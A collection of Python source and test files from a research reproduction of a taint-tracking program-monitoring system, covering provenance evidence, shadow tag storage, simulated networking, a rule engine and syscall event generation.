class TestSources:
    def test_first_introduction_wins(self):
        rec = ProvenanceRecorder()
        rec.record_source(["FILE(/a)"], pid=1, tick=5,
                          resource="/a", via="SYS_read")
        rec.record_source(["FILE(/a)"], pid=2, tick=99,
                          resource="/b", via="SYS_recv")
        assert rec.sources["FILE(/a)"]["tick"] == 5
        assert rec.sources["FILE(/a)"]["via"] == "SYS_read"

    def test_token_table_is_bounded(self):
        rec = ProvenanceRecorder(max_tokens=2)
        rec.record_source(["a", "b", "c", "d"], pid=1, tick=0,
                          resource="r", via="v")
        assert len(rec.sources) == 2
        assert rec.source_drops == 2
        assert rec.summary()["source_drops"] == 2

    def test_re_recording_a_known_token_never_drops(self):
        rec = ProvenanceRecorder(max_tokens=1)
        rec.record_source(["a"], pid=1, tick=0, resource="r", via="v")
        rec.record_source(["a"], pid=1, tick=1, resource="r", via="v")
        assert rec.source_drops == 0


class TestTrails:
    def test_data_and_identifier_taint_become_waypoints(self):
        rec = ProvenanceRecorder()
        rec.observe_event(FakeEvent(data_tags=("t1",)))
        rec.observe_event(FakeEvent(
            call_name="SYS_open", origin=("t1",), data_tags=()
        ))
        trail = rec.trails["t1"]
        assert [w["direction"] for w in trail] == ["write", "identifier"]
        assert trail[1]["call"] == "SYS_open"
        assert rec.events_observed == 2

    def test_trail_keeps_the_earliest_waypoints(self):
        rec = ProvenanceRecorder(max_trail=2)
        for tick in range(5):
            rec.observe_event(FakeEvent(time=tick, data_tags=("t1",)))
        assert [w["tick"] for w in rec.trails["t1"]] == [0, 1]
        assert rec.trail_drops == 3


class TestEvidence:
    def test_recorded_source_and_trail_flow_into_evidence(self):
        rec = ProvenanceRecorder()
        rec.record_source(["t1"], pid=1, tick=0,
                          resource="/etc/hosts", via="SYS_resolve")
        rec.observe_event(FakeEvent(time=5, data_tags=("t1",)))
        sink = FakeEvent(time=9, data_tags=("t1",))
        fired = [FiredRule("check_x_rule", (2,), {})]
        ev = rec.evidence_for(
            warning(), sink, None, fired,
            rule_docs={"check_x_rule": "why it fires"},
        )
        assert ev["schema_version"] == EVIDENCE_SCHEMA_VERSION
        assert ev["rule"] == "check_x"
        assert ev["sources"] == [{
            "token": "t1", "kind": "input", "via": "SYS_resolve",
            "pid": 1, "tick": 0, "resource": "/etc/hosts",
        }]
        assert [w["token"] for w in ev["waypoints"]] == ["t1"]
        assert ev["sink"]["call"] == "SYS_write"
        assert ev["derivation"] == [{
            "rule": "check_x_rule", "facts": ["f-2"],
            "doc": "why it fires",
        }]

    def test_unrecorded_token_gets_an_inferred_source(self):
        rec = ProvenanceRecorder()
        ev = rec.evidence_for(
            warning(), FakeEvent(data_tags=("mystery",)), None, []
        )
        assert ev["sources"][0]["kind"] == "inferred"
        assert ev["sources"][0]["token"] == "mystery"

    def test_tagless_warning_is_evidenced_by_its_event(self):
        rec = ProvenanceRecorder()
        ev = rec.evidence_for(warning(), FakeEvent(), None, [])
        assert len(ev["sources"]) == 1
        assert ev["sources"][0]["kind"] == "event"
        assert ev["sources"][0]["via"] == "SYS_write"

    def test_evidence_is_pure_json(self):
        rec = ProvenanceRecorder()
        rec.record_source(["t1"], pid=1, tick=0, resource="r", via="v")
        ev = rec.evidence_for(
            warning(), FakeEvent(data_tags=("t1",)), None,
            [FiredRule("r", (1, 2), {})],
        )
        assert json.loads(json.dumps(ev)) == ev

    def test_summary_counts(self):
        rec = ProvenanceRecorder()
        rec.record_source(["a", "b"], pid=1, tick=0, resource="r", via="v")
        rec.observe_event(FakeEvent(data_tags=("a",)))
        rec.evidence_for(warning(), FakeEvent(data_tags=("a",)), None, [])
        summary = rec.summary()
        assert summary["enabled"] is True
        assert summary["sources"] == 2
        assert summary["tokens_trailed"] == 1
        assert summary["waypoints"] == 1
        assert summary["evidence"] == 1

    def test_gauges_sampled(self):
        rec = ProvenanceRecorder()
        rec.record_source(["a"], pid=1, tick=0, resource="r", via="v")
        registry = MetricsRegistry()
        rec.sample_gauges(registry)
        assert registry.value("provenance_sources") == 1
        assert registry.value("provenance_evidence_built") == 0


class TestBlockDiagnostics:
    @dataclass(frozen=True)
    class Summary:
        live_in: tuple = ("r1",)
        touch_holes: tuple = ()
        is_noop: bool = False

    @dataclass(frozen=True)
    class Plan:
        taint_summary: object = field(default=None)

    def test_blocks_dedup_per_plan(self):
        rec = ProvenanceRecorder()
        plan = self.Plan(self.Summary())
        rec.observe_block(plan)
        rec.observe_block(plan)
        assert rec.blocks_observed == 1
        assert rec.block_tokens == 1

    def test_noop_blocks_not_counted(self):
        rec = ProvenanceRecorder()
        rec.observe_block(self.Plan(self.Summary(is_noop=True)))
        assert rec.blocks_observed == 0

    def test_block_counts_stay_out_of_the_summary(self):
        rec = ProvenanceRecorder()
        rec.observe_block(self.Plan(self.Summary()))
        assert "blocks" not in str(sorted(rec.summary()))


class TestRendering:
    def test_trail_renders_every_section(self):
        rec = ProvenanceRecorder()
        rec.record_source(["t1"], pid=1, tick=0,
                          resource="/etc/hosts", via="SYS_resolve")
        rec.observe_event(FakeEvent(time=5, data_tags=("t1",)))
        ev = rec.evidence_for(
            warning(), FakeEvent(time=9, data_tags=("t1",)), None,
            [FiredRule("check_x_rule", (2,), {})],
            rule_docs={"check_x_rule": "why"},
        )
        text = render_evidence(ev)
        assert "source   t1 <- SYS_resolve /etc/hosts" in text
        assert "waypoint t1 write via SYS_write" in text
        assert "sink     SYS_write" in text
        assert "fired    check_x_rule: f-2" in text
        assert "; why" in text

    def test_missing_evidence_renders_placeholder(self):
        assert "no evidence" in render_evidence(None)
        assert "no evidence" in render_evidence({})
