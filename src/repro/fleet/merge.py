"""Merging per-run results into fleet-level observability artifacts.

Workers stream ``RunReport`` dicts (each optionally carrying a
:class:`TelemetrySnapshot` dict) plus raw span dicts.  This module folds
them back together:

* :func:`merged_telemetry` — one fleet-level snapshot: metric registries
  merge per :func:`repro.telemetry.merge_sample_lists` (counters/gauges
  sum, histograms merge streams), stage profiles add, span counts add.
* :func:`fleet_chrome_trace` — one Perfetto-loadable trace where every
  run is a Chrome "process" (pid = task index, named after the
  workload), preserving each run's internal span tree.

Merged order is deterministic: records are consumed in task-index order,
and the metric merge sorts its output, so the same fleet produces the
same artifacts regardless of worker count or scheduling.
"""

from __future__ import annotations

import json
from typing import Dict, List, Optional, Sequence

from repro.fleet.report import FleetRunRecord
from repro.telemetry import TelemetrySnapshot


def merged_telemetry(
    records: Sequence[FleetRunRecord],
) -> Optional[TelemetrySnapshot]:
    """Fold every run's telemetry snapshot into one, or None if no run
    carried telemetry."""
    snapshots = [
        TelemetrySnapshot.from_dict(record.report["telemetry"])
        for record in records
        if record.report is not None and record.report.get("telemetry")
    ]
    if not snapshots:
        return None
    return TelemetrySnapshot.merged(snapshots)


def fleet_chrome_trace(
    records: Sequence[FleetRunRecord],
) -> Dict[str, object]:
    """Chrome trace-event JSON spanning the whole fleet.

    Each run becomes its own track: ``pid`` is the task index (labelled
    with the workload name and worker), ``tid`` is the span's guest pid
    within the run — the same layout
    :meth:`repro.telemetry.SpanTracer.to_chrome_trace` uses for one
    machine, replicated per run.
    """
    events: List[Dict[str, object]] = []
    for record in records:
        if not record.spans:
            continue
        events.append({
            "name": "process_name",
            "ph": "M",
            "pid": record.index,
            "tid": 0,
            "args": {
                "name": f"{record.name} (worker {record.worker})"
            },
        })
        for span in record.spans:
            args: Dict[str, object] = {
                "start_tick": span["start_tick"],
                "end_tick": span["end_tick"],
                "span_id": span["span_id"],
            }
            if span.get("parent_id") is not None:
                args["parent_id"] = span["parent_id"]
            for key, value in (span.get("attrs") or {}).items():
                args[key] = value if isinstance(
                    value, (int, float, bool)
                ) else str(value)
            events.append({
                "name": span["name"],
                "cat": span["category"],
                "ph": "X",
                "ts": float(span["start_wall"]) * 1e6,
                "dur": float(span["duration_wall"]) * 1e6,
                "pid": record.index,
                "tid": span["tid"],
                "args": args,
            })
    return {"traceEvents": events, "displayTimeUnit": "ms"}


def write_fleet_trace(path: str, records: Sequence[FleetRunRecord]) -> None:
    """Write the fleet trace: ``*.jsonl`` → one span per line (tagged
    with its run), anything else → Chrome trace-event JSON."""
    if str(path).endswith(".jsonl"):
        lines = [
            json.dumps({**span, "run": record.name}, default=str)
            for record in records
            for span in record.spans or ()
        ]
        text = "\n".join(lines) + "\n"
    else:
        text = json.dumps(fleet_chrome_trace(records), indent=1)
    with open(path, "w") as fh:
        fh.write(text)
