"""Shadow state: per-register and per-memory-cell tag storage.

Harrier (paper section 7.3.1) "tags each register and memory location with
one or more data sources".  The shadow structures here are the backing store
for that: a :class:`ShadowRegisters` map for the CPU's register file and a
:class:`ShadowMemory` map for the flat address space.

Untagged locations implicitly carry the empty tag set; ``ShadowMemory`` only
stores non-empty entries so that large untouched regions cost nothing.
"""

from __future__ import annotations

from typing import Dict, Iterable, Iterator, Tuple

from repro.taint.tags import EMPTY, TagSet


class ShadowRegisters:
    """Tag set per register name."""

    __slots__ = ("_tags",)

    def __init__(self) -> None:
        self._tags: Dict[str, TagSet] = {}

    def get(self, reg: str) -> TagSet:
        return self._tags.get(reg, EMPTY)

    def set(self, reg: str, tags: TagSet) -> None:
        if tags.is_empty():
            self._tags.pop(reg, None)
        else:
            self._tags[reg] = tags

    def clear(self) -> None:
        self._tags.clear()

    def snapshot(self) -> Dict[str, TagSet]:
        """A shallow copy of the live entries (TagSets are immutable)."""
        return dict(self._tags)

    def copy(self) -> "ShadowRegisters":
        dup = ShadowRegisters()
        dup._tags = dict(self._tags)
        return dup

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        inner = ", ".join(f"{r}={t}" for r, t in sorted(self._tags.items()))
        return f"ShadowRegisters({inner})"


class ShadowMemory:
    """Tag set per memory address (sparse)."""

    __slots__ = ("_tags",)

    def __init__(self) -> None:
        self._tags: Dict[int, TagSet] = {}

    def get(self, addr: int) -> TagSet:
        return self._tags.get(addr, EMPTY)

    @property
    def cell_tags(self) -> Dict[int, TagSet]:
        """The live addr -> TagSet mapping, for read-only bulk scans.

        Hot paths (string/range unions, the batched dataflow) bind
        ``cell_tags.get`` once instead of paying a method call per cell.
        Treat as read-only: writes must go through :meth:`set` so empty
        sets never take up residence.
        """
        return self._tags

    def set(self, addr: int, tags: TagSet) -> None:
        if tags.is_empty():
            self._tags.pop(addr, None)
        else:
            self._tags[addr] = tags

    def set_range(self, start: int, length: int, tags: TagSet) -> None:
        """Tag ``length`` consecutive cells starting at ``start``."""
        if length < 0:
            raise ValueError(f"negative length {length}")
        if tags.is_empty():
            for addr in range(start, start + length):
                self._tags.pop(addr, None)
        else:
            for addr in range(start, start + length):
                self._tags[addr] = tags

    def get_range(self, start: int, length: int) -> Tuple[TagSet, ...]:
        return tuple(self.get(addr) for addr in range(start, start + length))

    def union_of_range(self, start: int, length: int) -> TagSet:
        """Union of the tags over a region (the tag of the region's data)."""
        result = EMPTY
        for addr in range(start, start + length):
            ts = self._tags.get(addr)
            if ts is not None:
                result = result.union(ts)
        return result

    def clear(self) -> None:
        self._tags.clear()

    def live_cells(self) -> Iterator[Tuple[int, TagSet]]:
        """Iterate the non-empty entries (sorted by address)."""
        return iter(sorted(self._tags.items()))

    def copy(self) -> "ShadowMemory":
        dup = ShadowMemory()
        dup._tags = dict(self._tags)
        return dup

    def copy_within(self, src: int, dst: int, length: int) -> None:
        """Copy tags for a memory-to-memory move (memcpy semantics)."""
        # Read first so overlapping regions behave like memmove.
        tags = [self.get(src + i) for i in range(length)]
        for i, ts in enumerate(tags):
            self.set(dst + i, ts)

    def __len__(self) -> int:
        return len(self._tags)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"ShadowMemory(<{len(self._tags)} tagged cells>)"
