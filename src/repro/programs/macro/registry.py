"""Section 8.4 macro-benchmark registry.

Deprecated import path: resolve rows through the unified
:mod:`repro.programs.registry` instead; this module remains as the
factory the unified registry maps the ``"macro"`` key to.
"""

from __future__ import annotations

from typing import List

from repro.programs.base import Workload
from repro.programs.macro.mw_script import mw_workloads
from repro.programs.macro.pwsafe import pwsafe_workloads
from repro.programs.macro.tictactoe import tictactoe_workloads


def macro_workloads() -> List[Workload]:
    return pwsafe_workloads() + mw_workloads() + tictactoe_workloads()
