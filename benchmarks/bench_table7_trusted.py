"""Table 7 — false-positive study on eleven trusted programs.

The paper's table distinguishes "correctly identified any good behavior"
from "partially or inaccurately identified inappropriate behavior"
(make, g++, xeyes draw acceptable Low warnings; the rest run clean).
"""

from benchmarks.harness import (
    assert_all_match,
    emit_classification_table,
    once,
    run_workloads,
)
from repro.core.report import Verdict
from repro.programs.trusted.registry import table7_workloads


def bench_table7_trusted_programs(benchmark):
    results = once(benchmark, lambda: run_workloads(table7_workloads()))
    emit_classification_table(
        "Table 7: HTH on well-behaved programs (false-positive study)",
        "table7_trusted.txt",
        results,
    )
    assert_all_match(results)
    clean = [w.name for w, r in results if r.verdict is Verdict.BENIGN]
    assert clean == ["ls", "column", "awk", "pico", "tail", "diff",
                     "wc", "bc"]
