"""Network simulation tests: DNS, peers, listeners, scheduled connects."""

import pytest

from repro.kernel.network import (
    Connection,
    ConversationPeer,
    LOCALHOST_IP,
    LOCALHOST_NAME,
    Network,
    ScriptedPeer,
    SinkPeer,
    dotted,
)


@pytest.fixture
def net():
    return Network()


class TestDns:
    def test_localhost_preregistered(self, net):
        assert net.resolve(LOCALHOST_NAME) == LOCALHOST_IP
        assert net.resolve("localhost") == LOCALHOST_IP

    def test_register_assigns_unique_ips(self, net):
        a = net.register_host("a.example")
        b = net.register_host("b.example")
        assert a != b
        assert net.resolve("a.example") == a

    def test_register_idempotent(self, net):
        a1 = net.register_host("a.example")
        a2 = net.register_host("a.example")
        assert a1 == a2

    def test_unknown_name(self, net):
        assert net.resolve("nope.example") is None

    def test_format_addr_reverse_resolves(self, net):
        ip = net.register_host("srv.example")
        assert net.format_addr(ip, 80) == "srv.example:80"

    def test_format_addr_falls_back_to_dotted(self, net):
        assert net.format_addr(0x01020304, 9) == "1.2.3.4:9"

    def test_dotted(self):
        assert dotted(0x7F000001) == "127.0.0.1"

    def test_hosts_file_contains_entries(self, net):
        net.register_host("x.example")
        text = net.hosts_file_text()
        assert "x.example" in text
        assert "LocalHost" in text


class TestClientConnect:
    def test_connect_to_peer(self, net):
        peer = SinkPeer("p")
        ip = net.add_peer("srv", 80, lambda: peer)
        conn = net.connect(ip, 80, "pid1")
        assert conn is not None
        conn.send(b"hello")
        assert bytes(peer.received) == b"hello"

    def test_connect_refused_when_nothing_listens(self, net):
        ip = net.register_host("srv")
        assert net.connect(ip, 81, "pid1") is None

    def test_conversation_peer_opening_and_replies(self, net):
        peer = ConversationPeer("p", opening=b"hi", replies=[b"r1", b"r2"])
        ip = net.add_peer("srv", 80, lambda: peer)
        conn = net.connect(ip, 80, "pid1")
        assert bytes(conn.incoming) == b"hi"
        conn.incoming.clear()
        conn.send(b"q1")
        assert bytes(conn.incoming) == b"r1"
        conn.incoming.clear()
        conn.send(b"q2")
        assert bytes(conn.incoming) == b"r2"
        assert not conn.open  # script exhausted -> hang up

    def test_conversation_peer_without_replies_closes_at_connect(self, net):
        peer = ConversationPeer("p", opening=b"name")
        ip = net.add_peer("srv", 80, lambda: peer)
        conn = net.connect(ip, 80, "pid1")
        assert bytes(conn.incoming) == b"name"  # data still readable
        assert not conn.open

    def test_conversation_peer_keep_open(self, net):
        peer = ConversationPeer("p", opening=b"x", close_when_done=False)
        ip = net.add_peer("srv", 80, lambda: peer)
        conn = net.connect(ip, 80, "pid1")
        assert conn.open


class TestListeners:
    def test_guest_to_guest_backlog(self, net):
        listener = net.listen(LOCALHOST_IP, 99)
        conn = net.connect(LOCALHOST_IP, 99, "pid2")
        assert conn is not None
        assert listener.backlog == [conn]

    def test_listen_idempotent(self, net):
        a = net.listen(LOCALHOST_IP, 99)
        b = net.listen(LOCALHOST_IP, 99)
        assert a is b
        assert net.listener_at(LOCALHOST_IP, 99) is a


class TestScheduledConnects:
    def test_deliver_due_requires_listener(self, net):
        net.schedule_connect(10, "LocalHost", 99, ScriptedPeer("a"))
        assert net.deliver_due(20) == 0  # no listener yet
        assert net.has_pending_events()
        listener = net.listen(LOCALHOST_IP, 99)
        assert net.deliver_due(20) == 1
        assert len(listener.backlog) == 1
        assert not net.has_pending_events()

    def test_not_due_yet(self, net):
        net.listen(LOCALHOST_IP, 99)
        net.schedule_connect(100, "LocalHost", 99, ScriptedPeer("a"))
        assert net.deliver_due(50) == 0
        assert net.next_event_time() == 100

    def test_events_sorted_by_time(self, net):
        net.schedule_connect(30, "LocalHost", 99, ScriptedPeer("late"))
        net.schedule_connect(10, "LocalHost", 99, ScriptedPeer("early"))
        assert net.next_event_time() == 10

    def test_opening_delivered_on_scheduled_connect(self, net):
        listener = net.listen(LOCALHOST_IP, 99)
        net.schedule_connect(
            5, "LocalHost", 99, ConversationPeer("a", opening=b"hello",
                                                 close_when_done=False)
        )
        net.deliver_due(5)
        assert bytes(listener.backlog[0].incoming) == b"hello"


class TestConnection:
    def test_deliver_and_close(self):
        conn = Connection(local_label="l", peer_label="p")
        conn.deliver(b"abc")
        assert bytes(conn.incoming) == b"abc"
        conn.close()
        assert not conn.open

    def test_send_without_peer_just_records(self):
        conn = Connection(local_label="l", peer_label="p")
        assert conn.send(b"xy") == 2
        assert bytes(conn.sent) == b"xy"
