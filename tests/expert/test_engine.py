"""Inference engine tests: working memory, agenda, salience, refraction,
fire trace, data-driven chaining."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.expert import (
    EngineError,
    InferenceEngine,
    Pattern,
    Rule,
    Template,
    Test,
    V,
)


@pytest.fixture
def engine():
    eng = InferenceEngine()
    eng.define_template(Template.define("item", "kind", "value"))
    eng.define_template(Template.define("result", "value"))
    return eng


def item(engine, kind, value=0):
    return engine.assert_fact(
        engine.templates["item"].make(kind=kind, value=value)
    )


class TestWorkingMemory:
    def test_assert_assigns_ids(self, engine):
        a = item(engine, "a")
        b = item(engine, "b")
        assert (a.fact_id, b.fact_id) == (1, 2)
        assert b.recency > a.recency

    def test_assert_unknown_template_rejected(self, engine):
        ghost = Template.define("ghost", "x")
        with pytest.raises(EngineError):
            engine.assert_fact(ghost.make(x=1))

    def test_double_assert_rejected(self, engine):
        fact = item(engine, "a")
        with pytest.raises(EngineError):
            engine.assert_fact(fact)

    def test_retract(self, engine):
        fact = item(engine, "a")
        engine.retract(fact)
        assert engine.facts() == []
        with pytest.raises(EngineError):
            engine.retract(fact)

    def test_facts_filter_by_template(self, engine):
        item(engine, "a")
        engine.assert_fact(engine.templates["result"].make(value=1))
        assert len(engine.facts("item")) == 1
        assert len(engine.facts("result")) == 1
        assert len(engine.facts()) == 2

    def test_duplicate_template_rejected(self, engine):
        with pytest.raises(EngineError):
            engine.define_template(Template.define("item", "x"))

    def test_duplicate_rule_rejected(self, engine):
        rule = Rule("r", [Pattern("item")], lambda ctx: None)
        engine.add_rule(rule)
        with pytest.raises(EngineError):
            engine.add_rule(Rule("r", [Pattern("item")], lambda ctx: None))


class TestFiring:
    def test_rule_fires_per_matching_fact(self, engine):
        fired = []
        engine.add_rule(
            Rule(
                "watch",
                [Pattern("item", kind="a", value=V("v"))],
                lambda ctx: fired.append(ctx["v"]),
            )
        )
        item(engine, "a", 1)
        item(engine, "b", 2)
        item(engine, "a", 3)
        count = engine.run()
        assert count == 2
        assert sorted(fired) == [1, 3]

    def test_refraction_prevents_refire(self, engine):
        fired = []
        engine.add_rule(
            Rule("once", [Pattern("item", kind="a")],
                 lambda ctx: fired.append(1))
        )
        item(engine, "a")
        engine.run()
        engine.run()  # no new facts -> nothing new fires
        assert len(fired) == 1

    def test_new_fact_reactivates(self, engine):
        fired = []
        engine.add_rule(
            Rule("watch", [Pattern("item", kind="a")],
                 lambda ctx: fired.append(1))
        )
        item(engine, "a")
        engine.run()
        item(engine, "a")
        engine.run()
        assert len(fired) == 2

    def test_salience_orders_firing(self, engine):
        order = []
        engine.add_rule(
            Rule("low", [Pattern("item")], lambda ctx: order.append("low"),
                 salience=0)
        )
        engine.add_rule(
            Rule("high", [Pattern("item")], lambda ctx: order.append("high"),
                 salience=10)
        )
        item(engine, "a")
        engine.run()
        assert order == ["high", "low"]

    def test_recency_breaks_ties(self, engine):
        order = []
        engine.add_rule(
            Rule(
                "watch",
                [Pattern("item", value=V("v"))],
                lambda ctx: order.append(ctx["v"]),
            )
        )
        item(engine, "a", 1)
        item(engine, "a", 2)
        engine.run()
        assert order == [2, 1]  # most recent first

    def test_chaining_assert_from_action(self, engine):
        results = []
        engine.add_rule(
            Rule(
                "derive",
                [Pattern("item", kind="a", value=V("v"))],
                lambda ctx: ctx.assert_fact(
                    engine.templates["result"].make(value=ctx["v"] + 1)
                ),
            )
        )
        engine.add_rule(
            Rule(
                "collect",
                [Pattern("result", value=V("v"))],
                lambda ctx: results.append(ctx["v"]),
            )
        )
        item(engine, "a", 10)
        engine.run()
        assert results == [11]

    def test_retract_from_action_stops_matching(self, engine):
        fired = []

        def consume(ctx):
            fired.append(1)
            ctx.retract(ctx["f"])

        engine.add_rule(
            Rule("consume", [Pattern("item", bind_as="f")], consume)
        )
        item(engine, "a")
        engine.run()
        assert len(fired) == 1
        assert engine.facts() == []

    def test_fire_limit_raises(self, engine):
        def regenerate(ctx):
            ctx.retract(ctx["f"])
            item(engine, "a")

        engine.add_rule(
            Rule("loop", [Pattern("item", bind_as="f")], regenerate)
        )
        item(engine, "a")
        with pytest.raises(EngineError):
            engine.run(limit=25)

    def test_fire_trace_records(self, engine):
        engine.add_rule(
            Rule("watch", [Pattern("item", kind=V("k"))], lambda ctx: None)
        )
        fact = item(engine, "a")
        engine.run()
        assert len(engine.fire_trace) == 1
        fired = engine.fire_trace[0]
        assert fired.rule_name == "watch"
        assert fired.fact_ids == (fact.fact_id,)
        assert fired.bindings == {"k": "a"}
        assert "watch" in str(fired)

    def test_reset_clears_everything(self, engine):
        engine.add_rule(
            Rule("watch", [Pattern("item")], lambda ctx: None)
        )
        item(engine, "a")
        engine.run()
        engine.reset()
        assert engine.facts() == []
        assert engine.fire_trace == []

    def test_context_shared_with_actions(self, engine):
        engine.context["log"] = []
        engine.add_rule(
            Rule(
                "watch",
                [Pattern("item")],
                lambda ctx: ctx.context["log"].append("hit"),
            )
        )
        item(engine, "a")
        engine.run()
        assert engine.context["log"] == ["hit"]

    def test_test_element_in_rule(self, engine):
        fired = []
        engine.add_rule(
            Rule(
                "big",
                [Pattern("item", value=V("v")), Test(lambda b: b["v"] > 5)],
                lambda ctx: fired.append(ctx["v"]),
            )
        )
        item(engine, "a", 3)
        item(engine, "a", 9)
        engine.run()
        assert fired == [9]


class TestAgendaProperties:
    @given(st.lists(st.integers(0, 5), min_size=1, max_size=8))
    def test_refraction_fires_exactly_once_per_fact(self, values):
        engine = InferenceEngine()
        engine.define_template(Template.define("item", "value"))
        fired = []
        engine.add_rule(
            Rule(
                "watch",
                [Pattern("item", value=V("v"))],
                lambda ctx: fired.append(ctx["v"]),
            )
        )
        for v in values:
            engine.assert_fact(engine.templates["item"].make(value=v))
        engine.run()
        assert sorted(fired) == sorted(values)

    @given(st.permutations([0, 1, 2, 3]))
    def test_salience_total_order(self, saliences):
        engine = InferenceEngine()
        engine.define_template(Template.define("go",))
        order = []
        for s in saliences:
            engine.add_rule(
                Rule(
                    f"rule{s}",
                    [Pattern("go")],
                    (lambda s=s: (lambda ctx: order.append(s)))(),
                    salience=s,
                )
            )
        engine.assert_fact(engine.templates["go"].make())
        engine.run()
        assert order == sorted(saliences, reverse=True)
