"""Syscall event generation and taint side effects.

Bridges kernel syscalls to the analysis events of paper section 6.1:

* *before* a call executes, semantic events are emitted (execve, clone,
  open, connect, write...) so the analysis can veto it ("Harrier will
  interrupt the execution of the program and wait until Secpert analysis
  is done", section 7.1);
* *after* a call completes, taint effects are applied (read() tags the
  buffer with the resource's data source; resolve() tags its result with
  the hosts-file source, which the routine short circuit later fixes up).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.harrier.bbfreq import CodeExecutionPatterns
from repro.harrier.content import sniff_content
from repro.harrier.config import HarrierConfig
from repro.harrier.dataflow import InstructionDataFlow
from repro.harrier.events import (
    DataTransferEvent,
    MemoryEvent,
    ProcessEvent,
    ResourceAccessEvent,
    ResourceId,
    SecurityEvent,
)
from repro.harrier.state import ProcessShadow
from repro.kernel.process import OpenFile, Process, ResourceKind
from repro.kernel.syscalls import (
    SYS_BRK,
    SYS_CHMOD,
    SYS_CLONE,
    SYS_CREAT,
    SYS_EXECVE,
    SYS_FORK,
    SYS_MKNOD,
    SYS_OPEN,
    SYS_READ,
    SYS_RESOLVE,
    SYS_SOCKETCALL,
    SYS_UNLINK,
    SYS_WRITE,
    syscall_name,
)
from repro.taint.tags import EMPTY, DataSource, TagSet

Args = Tuple[int, int, int, int, int]

_UNKNOWN = TagSet.of(DataSource.UNKNOWN)
_HOSTS_FILE_TAG = TagSet.of(DataSource.FILE, "/etc/hosts")
_USER_INPUT = TagSet.of(DataSource.USER_INPUT)

#: fd kind -> data-source tag applied to bytes read from it.
_READ_SOURCE = {
    ResourceKind.FILE: DataSource.FILE,
    ResourceKind.DIRECTORY: DataSource.FILE,
    ResourceKind.FIFO: DataSource.FILE,
    ResourceKind.SOCKET: DataSource.SOCKET,
}


class SyscallEventGenerator:
    def __init__(
        self,
        config: HarrierConfig,
        dataflow: InstructionDataFlow,
        bbfreq: CodeExecutionPatterns,
        provenance=None,
    ) -> None:
        self.config = config
        self.dataflow = dataflow
        self.bbfreq = bbfreq
        #: Optional ProvenanceRecorder: taint introductions at syscall
        #: boundaries become evidence-trail source records.
        self.provenance = provenance

    #: Frequency reported when BB counting is disabled: "no rarity
    #: evidence", so the rare-code severity upgrade can never fire.
    _FREQUENCY_UNKNOWN = 1 << 30

    # -- shared helpers ------------------------------------------------------
    def _base(self, proc: Process, shadow: ProcessShadow, now: int,
              call_name: str) -> Dict[str, object]:
        if self.config.track_bb_frequency:
            frequency, address = self.bbfreq.event_context(shadow)
        else:
            frequency, address = self._FREQUENCY_UNKNOWN, "0"
        return {
            "pid": proc.pid,
            "time": now - proc.start_time,
            "frequency": frequency,
            "address": address,
            "call_name": call_name,
        }

    def _string_origin(
        self, proc: Process, shadow: ProcessShadow, addr: Optional[int]
    ) -> TagSet:
        if not self.config.track_dataflow:
            return _UNKNOWN
        if addr is None:
            return EMPTY
        return self.dataflow.string_tags(proc, shadow, addr)

    def _buffer_tags(
        self, shadow: ProcessShadow, buf: int, count: int
    ) -> TagSet:
        if not self.config.track_dataflow:
            return _UNKNOWN
        return shadow.memory.union_of_range(buf, count)

    @staticmethod
    def _fd_origin(open_file: Optional[OpenFile]) -> TagSet:
        if open_file is None:
            return EMPTY
        return open_file.meta.get("origin", EMPTY)  # type: ignore[return-value]

    @staticmethod
    def _source_origins(shadow: ProcessShadow, data_tags: TagSet) -> tuple:
        """(tag, origin-of-that-resource's-name) pairs for file/socket tags."""
        pairs = []
        for tag in data_tags:
            if tag.source in (DataSource.FILE, DataSource.SOCKET) and tag.name:
                origin = shadow.resource_origins.get(
                    (tag.source, tag.name), EMPTY
                )
                pairs.append((tag, origin))
        return tuple(pairs)

    @staticmethod
    def _remember_origin(
        shadow: ProcessShadow, source: DataSource, name: str, origin: TagSet
    ) -> None:
        shadow.resource_origins[(source, name)] = origin

    @staticmethod
    def _source_server(shadow: ProcessShadow, data_tags: TagSet) -> Dict[str, object]:
        """Server-connection context when the data came via our listener."""
        for tag in data_tags:
            if tag.source is DataSource.SOCKET and tag.name:
                entry = shadow.server_sockets.get(tag.name)
                if entry is not None:
                    return {
                        "source_server_socket": entry[0],
                        "source_server_origin": entry[1],
                    }
        return {}

    # -- pre-execution events ---------------------------------------------------
    def pre_events(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        sysno: int,
        args: Args,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        if sysno in (SYS_EXECVE, SYS_OPEN, SYS_CREAT, SYS_UNLINK,
                     SYS_CHMOD, SYS_MKNOD):
            return self._path_access_event(proc, shadow, now, sysno, info)
        if sysno in (SYS_FORK, SYS_CLONE):
            return self._clone_event(proc, shadow, now)
        if sysno == SYS_WRITE:
            return self._write_event(proc, shadow, now, "SYS_write", info)
        if sysno == SYS_SOCKETCALL:
            return self._socketcall_pre(proc, shadow, now, args, info)
        return []

    def _path_access_event(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        sysno: int,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        path = info.get("path")
        if path is None:
            return []
        origin = self._string_origin(proc, shadow, info.get("path_ptr"))
        info["_origin_tags"] = origin  # reused by post_effects
        event = ResourceAccessEvent(
            **self._base(proc, shadow, now, syscall_name(sysno)),
            resource=ResourceId(ResourceKind.FILE, str(path)),
            origin=origin,
        )
        return [event]

    def _clone_event(
        self, proc: Process, shadow: ProcessShadow, now: int
    ) -> List[SecurityEvent]:
        shadow.clone_times.append(now)
        window = self.config.process_rate_window
        recent = sum(1 for t in shadow.clone_times if now - t <= window)
        event = ProcessEvent(
            **self._base(proc, shadow, now, "SYS_clone"),
            total_created=len(shadow.clone_times),
            recent_created=recent,
            window=window,
        )
        return [event]

    def _write_event(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        call_name: str,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        open_file: Optional[OpenFile] = info.get("open_file")  # type: ignore
        if open_file is None:
            return []
        if open_file.kind is ResourceKind.CONSOLE:
            # Writes to the terminal are not a resource boundary the policy
            # watches (every program prints); reads from stdin still tag.
            return []
        buf = int(info.get("buf", 0))
        count = int(info.get("count", 0))
        server = open_file.meta.get("server")
        data_tags = self._buffer_tags(shadow, buf, count)
